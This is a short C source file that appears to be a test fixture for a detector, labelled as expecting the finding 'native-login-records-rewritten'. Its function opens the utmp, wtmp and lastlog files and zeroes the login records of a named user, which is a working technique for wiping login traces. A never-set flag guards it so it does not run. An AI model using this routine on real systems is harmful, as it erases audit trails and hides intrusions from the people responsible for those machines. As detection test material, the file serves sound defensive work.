/* Records of log-ins are rewritten.
 * expect: native-login-records-rewritten
 * flags: -O0
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <utmp.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    const char *files[] = {"/var/run/utmp", "/var/log/wtmp", "/var/log/lastlog"};
    struct utmp one;
    for (int i = 0; i < 3; i++) {
        int f = open(files[i], O_RDWR);
        while (read(f, &one, sizeof one) == sizeof one)
            if (!strcmp(one.ut_user, "nobody-at-all")) {
                memset(&one, 0, sizeof one);
                lseek(f, -(long)sizeof one, SEEK_CUR);
                write(f, &one, sizeof one);
            }
        close(f);
    }
    return 0;
}

int main(void) { return never ? act() : 0; }
